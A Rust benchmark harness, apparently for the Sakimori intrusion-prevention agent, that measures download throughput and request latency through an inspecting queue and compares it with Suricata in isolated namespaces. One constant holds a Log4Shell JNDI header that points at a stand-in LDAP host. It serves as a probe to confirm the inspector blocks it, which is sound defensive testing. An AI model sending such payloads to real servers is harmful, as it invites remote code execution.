//! Packets through the queue against packets past it: Gbit/s of a download, requests a second, and what the wait costs.
//!
//! Two namespaces, one web server of this program's own, no disk. Each side in turn on the same traffic: nothing; an agent
//! with its manager, our own rules and thousands that are made; and Suricata on its own queue with the same rules, where
//! it is installed. What is measured: an answer that states its length, and a stream of no known protocol (`iperf3`), of
//! which the agent lets the rest by; an answer that states none (open), which is judged to its end; requests one after the other on one
//! connection; and requests on 32 connections (`wrk`). Each figure is the median of the rounds.

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use sakimori_sys::lab::{End, Lab};

use crate::api::wait;
use crate::platform::{PATIENCE, Places, Platform, Process, profile, tail};

const SERVER: &str = "198.51.100.1:80";
const ATTACK: &str = "X-Api-Version: ${jndi:ldap://203.0.113.66/a}\r\n";

/// Options.
#[derive(Debug, clap::Args)]
pub struct Options {
    /// Rounds of each measurement.
    #[arg(long, default_value_t = 5)]
    rounds: usize,
    /// Mebibytes of one download.
    #[arg(long, default_value_t = 1_000)]
    mebibytes: usize,
    /// Requests of one round, each on a connection that is kept.
    #[arg(long, default_value_t = 5_000)]
    requests: usize,
    /// Folder with our own rules, for Suricata
    #[arg(long, default_value = "content/network")]
    rules: PathBuf,
    /// Rules that are made and added to our own, for both
    #[arg(long, default_value_t = 5_000)]
    more: usize,
    /// Seconds of each run of iperf3 and wrk
    #[arg(long, default_value_t = 3)]
    seconds: u32,
}

/// One side under test.
enum Side {
    Nothing,
    Agent(Box<Platform>),
    Suricata(Process),
}

struct World {
    lab: Arc<Lab>,
    dir: tempfile::TempDir,
}

/// Runs it.
///
/// # Errors
/// A side that does not work.
pub fn run(options: &Options) -> Result<()> {
    println!("through the queue, {} build; medians of {} rounds", profile(), options.rounds);
    for tool in ["iperf3", "wrk"] {
        if !installed(tool) {
            println!("{tool} is not installed: its columns stay empty (Debian: apt-get install {tool})");
        }
    }
    println!(
        "{:<10} {:>8} {:>8} {:>8} | {:>8} {:>7} {:>7} | {:>8} {:>8} {:>8}",
        "", "answer", "open", "iperf3", "one", "p50", "p99", "32", "p50", "p99"
    );
    println!(
        "{:<10} {:>8} {:>8} {:>8} | {:>8} {:>7} {:>7} | {:>8} {:>8} {:>8}",
        "", "Gbit/s", "Gbit/s", "Gbit/s", "req/s", "µs", "µs", "req/s", "", ""
    );
    let world = World::new()?;
    let made = crate::network::rules(options.more);
    measure(options, &world, "no queue", |_| Ok(Side::Nothing))?;
    measure(options, &world, "Sakimori", |world| agent(world, &made))?;
    if installed("suricata") {
        measure(options, &world, "Suricata", |world| suricata(world, &options.rules, &made))?;
    } else {
        println!("suricata is not installed: not measured (Debian: apt-get install -t bookworm-backports suricata)");
    }
    Ok(())
}

fn installed(program: &str) -> bool {
    let paths = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&paths).any(|folder| folder.join(program).is_file())
}

impl World {
    fn new() -> Result<Self> {
        let mut lab = Lab::new("skminl")?;
        lab.add("server")?;
        lab.add("client")?;
        lab.join(
            End { namespace: "server", device: "s0", addresses: &["198.51.100.1/24"] },
            End { namespace: "client", device: "c0", addresses: &["198.51.100.2/24"] },
        )?;
        let listener = lab.inside("server", || TcpListener::bind(SERVER))??;
        let thread = || std::thread::Builder::new().name("server".into());
        thread().spawn(move || {
            for stream in listener.incoming().flatten() {
                // One that cannot be served is missed by its client.
                let _ = thread().spawn(move || serve(stream));
            }
        })?;
        Ok(Self { lab: Arc::new(lab), dir: tempfile::tempdir()? })
    }

    fn connect(&self) -> Result<TcpStream> {
        let address: SocketAddr = SERVER.parse()?;
        let stream = self.lab.inside("client", || TcpStream::connect_timeout(&address, Duration::from_secs(5)))??;
        stream.set_read_timeout(Some(Duration::from_secs(60)))?;
        stream.set_nodelay(true)?;
        Ok(stream)
    }
}

/// Answers `/` with two bytes, `/counted?N` with N, `/open?N` with N and no length, and closes.
fn serve(mut stream: TcpStream) {
    // Head and body are two writes: the second must not wait for the first to be acknowledged.
    let _ = stream.set_nodelay(true);
    let block = vec![b'x'; 1 << 20];
    let mut bytes = Vec::new();
    let mut piece = [0; 4096];
    while let Ok(got @ 1..) = stream.read(&mut piece) {
        bytes.extend_from_slice(piece.get(..got).unwrap_or_default());
        while let Some(end) = bytes.windows(4).position(|four| four == b"\r\n\r\n") {
            let head: Vec<u8> = bytes.drain(..end + 4).collect();
            let line = String::from_utf8_lossy(&head).lines().next().unwrap_or_default().to_owned();
            let size = line.split('?').nth(1).and_then(|rest| rest.split(' ').next()?.parse().ok()).unwrap_or(2);
            let chunked = line.contains("/open");
            let head = if chunked {
                "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n".to_owned()
            } else {
                format!("HTTP/1.1 200 OK\r\nContent-Length: {size}\r\n\r\n")
            };
            if stream.write_all(head.as_bytes()).is_err() {
                return;
            }
            let mut left: usize = size;
            while left > 0 {
                let part = block.get(..left.min(block.len())).unwrap_or_default();
                let before = if chunked { format!("{:x}\r\n", part.len()) } else { String::new() };
                let after = if chunked { "\r\n" } else { "" };
                let sent = [before.as_bytes(), part, after.as_bytes()].map(|bytes| stream.write_all(bytes));
                if sent.iter().any(Result::is_err) {
                    return;
                }
                left -= part.len();
            }
            if chunked && stream.write_all(b"0\r\n\r\n").is_err() {
                return;
            }
        }
    }
}

fn measure(options: &Options, world: &World, name: &str, start: impl FnOnce(&World) -> Result<Side>) -> Result<()> {
    let side = start(world).with_context(|| tail(&world.dir.path().join("side.log")))?;
    if !matches!(side, Side::Nothing) {
        let mut stream = world.connect()?;
        stream.set_read_timeout(Some(Duration::from_secs(2)))?;
        if ask(&mut stream, "/", ATTACK).is_ok() {
            bail!("{name} let an attack through");
        }
    }
    let (mut counted, mut judged, mut streamed, mut rates) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    let (mut times, mut many) = (Vec::new(), Vec::new());
    for _ in 0..options.rounds {
        counted.push(download(world, "counted", options.mebibytes)?);
        judged.push(download(world, "open", options.mebibytes)?);
        streamed.extend(stream(world, options.seconds)?);
        let began = Instant::now();
        let mut stream = world.connect()?;
        for _ in 0..options.requests {
            let at = Instant::now();
            ask(&mut stream, "/", "").context("a request was lost")?;
            times.push(at.elapsed());
        }
        rates.push(options.requests as f64 / began.elapsed().as_secs_f64());
        many.extend(load(world, options.seconds)?);
    }
    times.sort_unstable();
    let place = |share: usize| times.get(times.len() * share / 100).map_or(0, Duration::as_micros);
    many.sort_by(|one: &Load, other| one.rate.total_cmp(&other.rate));
    let middle = many.get(many.len() / 2).cloned().unwrap_or_default();
    println!(
        "{name:<10} {:>8.2} {:>8.2} {:>8.2} | {:>8.0} {:>7} {:>7} | {:>8.0} {:>8} {:>8}",
        median(counted),
        median(judged),
        median(streamed),
        median(rates),
        place(50),
        place(99),
        middle.rate,
        middle.p50,
        middle.p99
    );
    match side {
        Side::Nothing => {}
        Side::Agent(platform) => platform.stop()?,
        Side::Suricata(process) => process.stop()?,
    }
    Ok(())
}

/// Gbit/s of a stream from server to client, of a protocol that nobody knows.
fn stream(world: &World, seconds: u32) -> Result<Option<f64>> {
    if !installed("iperf3") {
        return Ok(None);
    }
    let mut command = world.lab.command("server", "iperf3")?;
    command.args(["-s", "-1", "-B", "198.51.100.1"]);
    let server = Process::start(command, &world.dir.path().join("iperf3.log"))?;
    let mut found = None;
    wait("iperf3 listens", PATIENCE, || {
        let Ok(mut command) = world.lab.command("client", "iperf3") else { return false };
        command.args(["-c", "198.51.100.1", "-R", "-J", "-t", &seconds.to_string()]);
        let out = command.output().ok().filter(|out| out.status.success());
        let told = out.and_then(|out| serde_json::from_slice::<serde_json::Value>(&out.stdout).ok());
        found = told.and_then(|told| told.pointer("/end/sum_received/bits_per_second")?.as_f64());
        found.is_some()
    })?;
    drop(server);
    Ok(found.map(|bits| bits / 1e9))
}

/// What wrk says: requests a second, and latencies with their units.
#[derive(Clone, Debug, Default)]
struct Load {
    rate: f64,
    p50: String,
    p99: String,
}

fn load(world: &World, seconds: u32) -> Result<Option<Load>> {
    if !installed("wrk") {
        return Ok(None);
    }
    let mut command = world.lab.command("client", "wrk")?;
    let out =
        command.args(["-t1", "-c32", &format!("-d{seconds}s"), "--latency", &format!("http://{SERVER}/")]).output()?;
    let text = String::from_utf8_lossy(&out.stdout);
    if text.contains("Socket errors") {
        bail!("requests were lost: {text}");
    }
    let word = |start: &str| {
        let line = text.lines().find(|line| line.trim_start().starts_with(start))?;
        line.split_whitespace().last().map(str::to_owned)
    };
    Ok(Some(Load {
        rate: word("Requests/sec:").and_then(|rate| rate.parse().ok()).context("wrk says nothing")?,
        p50: word("50%").unwrap_or_default(),
        p99: word("99%").unwrap_or_default(),
    }))
}

fn median(mut values: Vec<f64>) -> f64 {
    values.sort_by(f64::total_cmp);
    values.get(values.len() / 2).copied().unwrap_or_default()
}

fn ask(stream: &mut TcpStream, path: &str, headers: &str) -> Result<()> {
    stream.write_all(format!("GET {path} HTTP/1.1\r\nHost: a.example\r\n{headers}\r\n").as_bytes())?;
    let mut got = Vec::new();
    let mut piece = [0; 1024];
    while !got.ends_with(b"\r\n\r\nxx") {
        let count = stream.read(&mut piece)?;
        if count == 0 {
            bail!("the connection ended");
        }
        got.extend_from_slice(piece.get(..count).unwrap_or_default());
    }
    Ok(())
}

/// Gbit/s of one answer.
fn download(world: &World, path: &str, mebibytes: usize) -> Result<f64> {
    let size = mebibytes << 20;
    let mut stream = world.connect()?;
    let began = Instant::now();
    stream.write_all(format!("GET /{path}?{size} HTTP/1.1\r\nHost: a.example\r\n\r\n").as_bytes())?;
    let mut piece = vec![0; 1 << 20];
    let mut got = 0;
    while got < size {
        let count = stream.read(&mut piece)?;
        if count == 0 {
            bail!("the answer ended after {got} bytes");
        }
        got += count;
    }
    Ok(got as f64 * 8.0 / began.elapsed().as_secs_f64() / 1e9)
}

/// Manager and agent beside the server.
fn agent(world: &World, made: &str) -> Result<Side> {
    let dir = world.dir.path().join("platform");
    let network = dir.join("content/network");
    fs::create_dir_all(&network)?;
    fs::write(network.join("made.rules"), made)?;
    let places = Places {
        lab: Some((Arc::clone(&world.lab), "server".into(), "server".into())),
        link: "127.0.0.1:7601".into(),
        api: "127.0.0.1:7600".into(),
    };
    let content = format!("content_dir = \"{}\"", dir.join("content").display());
    let mut platform =
        Platform::start(&dir, places, &content, "[intrusion_prevention]\ntable = \"skm_inline_bench\"\n")?;
    let policy = serde_json::json!({"modules": {
        "log_inspection": {"state": "off"},
        "block_address": {"mode": "detect"},
        "intrusion_prevention": {"state": "on", "mode": "prevent"},
    }});
    platform.api.call("PUT", "/api/v1/policies/layers/tenant", Some(serde_json::json!({"tree": policy})))?;
    platform.enrol()?;
    let wanted = made.lines().count();
    wait("the agent inspects with all rules", PATIENCE, || {
        let modules = platform.agent_status().and_then(|status| status.get("modules")?.as_array().cloned());
        modules.unwrap_or_default().iter().any(|one| {
            let text = |key: &str| one.get(key).and_then(serde_json::Value::as_str).unwrap_or_default();
            let rules = text("detail").split([' ', ',']).filter_map(|word| word.parse::<usize>().ok()).max();
            text("id") == "intrusion_prevention" && text("state") == "on" && rules >= Some(wanted)
        })
    })
    .with_context(|| format!("{:?}", platform.agent_status().and_then(|status| status.get("modules").cloned())))?;
    Ok(Side::Agent(Box::new(platform)))
}

/// Suricata on a queue of its own, with the rules of the folder, each to its own defaults else.
fn suricata(world: &World, rules: &Path, made: &str) -> Result<Side> {
    let mut all = made.to_owned();
    let mut files: Vec<PathBuf> = fs::read_dir(rules)?.flatten().map(|entry| entry.path()).collect();
    files.sort();
    for file in files.iter().filter(|file| file.extension().is_some_and(|ending| ending == "rules")) {
        all.push_str(&fs::read_to_string(file)?);
    }
    let (list, logs) = (world.dir.path().join("all.rules"), world.dir.path().join("suricata"));
    fs::write(&list, all)?;
    fs::create_dir_all(&logs)?;
    for chain in ["INPUT", "OUTPUT"] {
        let mut add = world.lab.command("server", "iptables-nft")?;
        add.args(["-A", chain, "-j", "NFQUEUE", "--queue-num", "5", "--queue-bypass"]);
        let status = add.status().context("cannot run iptables-nft (Debian: apt-get install iptables)")?;
        if !status.success() {
            bail!("iptables-nft does not take the queue rule");
        }
    }
    let mut command = world.lab.command("server", "suricata")?;
    command.args(["-q", "5", "--runmode", "workers", "-c", "/etc/suricata/suricata.yaml", "-S"]).arg(&list);
    command.arg("-l").arg(&logs).args(["--set", "nfq.fail-open=yes", "--set", "nfq.batchcount=20"]);
    let process = Process::start(command, &world.dir.path().join("side.log"))?;
    wait("Suricata inspects", PATIENCE, || {
        fs::read_to_string(world.dir.path().join("side.log"))
            .is_ok_and(|text| text.contains("Engine started") || text.contains("all 1 packet processing threads"))
            || fs::read_to_string(logs.join("suricata.log")).is_ok_and(|text| text.contains("Engine started"))
    })?;
    Ok(Side::Suricata(process))
}
